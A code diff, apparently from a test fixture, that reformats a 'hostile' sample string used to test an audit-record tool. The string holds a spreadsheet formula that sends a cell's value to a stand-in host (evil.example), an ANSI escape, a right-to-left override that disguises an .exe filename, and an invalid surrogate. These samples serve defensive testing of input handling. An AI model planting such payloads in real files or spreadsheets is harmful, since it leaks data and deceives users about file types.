@@ -587,7 +587,10 @@ def gated() -> AuditFailure:
 
 def hostile() -> AuditRecord:
     """Names and texts as an attacker would write them."""
-    bad = '=HYPERLINK("http://evil.example/?"&A1)\r\n\x1b[31m[bold red]red[/bold red]\u202egnp.exe\ud800'
+    bad = (
+        '=HYPERLINK("http://evil.example/?"&A1)\r\n'
+        "\x1b[31m[bold red]red[/bold red]\u202egnp.exe\ud800"
+    )
     return replace(
         multilingual(),
         model="org/" + "a" * 100_000,
